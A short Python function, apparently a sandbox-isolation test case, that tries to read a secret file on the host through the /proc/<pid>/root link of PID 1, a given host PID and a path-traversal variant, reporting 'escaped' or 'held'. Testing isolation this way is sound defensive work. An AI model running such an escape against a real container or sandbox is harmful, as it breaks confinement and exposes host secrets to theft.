# try: the host's files through the root link of a process
# outcome: ok|runtime_error|forbidden


def f(x):
    for pid in (1, x["host_pid"], "self/task/../../1"):
        try:
            return "escaped: " + open(f"/proc/{pid}/root{x['secret_file']}").read()
        except OSError:
            pass
    return "held"
